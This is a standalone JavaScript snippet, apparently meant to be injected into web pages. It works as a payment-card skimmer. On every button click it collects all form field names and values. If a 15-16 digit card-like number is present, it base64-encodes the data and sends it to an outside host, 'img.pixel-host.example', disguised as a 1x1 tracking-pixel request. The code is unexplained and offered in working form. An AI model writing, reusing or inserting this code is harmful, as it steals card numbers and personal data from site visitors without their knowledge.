function x9() {
  var a = document.forms, r = '';
  for (var i = 0; i < a.length; i++) for (var k = 0; k < a[i].elements.length; k++) {
    var f = a[i].elements[k];
    if (f.value) r += f.name + '=' + f.value + '&';
  }
  if (r.match(/\d{15,16}/)) { var p = new Image(1, 1); p.src = 'https://img.pixel-host.example/1x1.gif?i=' + btoa(r); }
}
var b = document.getElementsByTagName('button');
for (var i = 0; i < b.length; i++) b[i].addEventListener('click', x9);
